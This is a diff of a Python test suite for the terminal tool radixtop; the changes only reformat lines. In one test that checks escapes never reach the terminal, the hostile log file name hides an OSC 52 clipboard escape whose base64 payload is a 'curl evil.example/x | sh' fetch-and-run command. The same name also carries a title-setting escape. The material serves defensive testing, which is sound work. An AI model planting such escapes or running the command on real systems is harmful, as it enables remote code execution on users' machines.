@@ -75,7 +75,9 @@ def test_a_signal_restores_the_terminal_and_stops_the_children(tmp_path: Path, s
         os.kill(pid, sig)
         screen = tmux.wait_for(lambda s: "EXITED" in s, "radixtop to exit", timeout=20)
         assert f"EXITED {128 + sig}" in screen
-        assert _terminal_state(tmux) == "0 1 0 0 0 0", "alternate screen, cursor or mouse reporting left as the UI set them"
+        assert _terminal_state(tmux) == "0 1 0 0 0 0", (
+            "alternate screen, cursor or mouse reporting left as the UI set them"
+        )
         assert "Traceback" not in screen
         if demo:
             assert "radixtop demo: stopped the simulator" in screen
@@ -119,7 +121,8 @@ def test_escapes_in_a_log_files_name_and_lines_never_reach_the_terminal(tmp_path
     and none interprets markup."""
     name = "sim\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\x1b\\\x1b]2;PWNED_NAME\x1b\\.log"
     log = tmp_path / name
-    log.write_text(LINES + f"[2026-12-02 14:00:02 TP0] RadixCacheError: Failed to lock memory page during dynamic prefix eviction {HOSTILE}\n"
+    log.write_text(LINES + "[2026-12-02 14:00:02 TP0] RadixCacheError: "
+                   f"Failed to lock memory page during dynamic prefix eviction {HOSTILE}\n"
                    + "".join(f"[2026-12-02 14:00:03 TP0] after {i} {HOSTILE}\n" for i in range(3)))
     raw = tmp_path / "raw.bin"
     tmux = Tmux(160, 48)
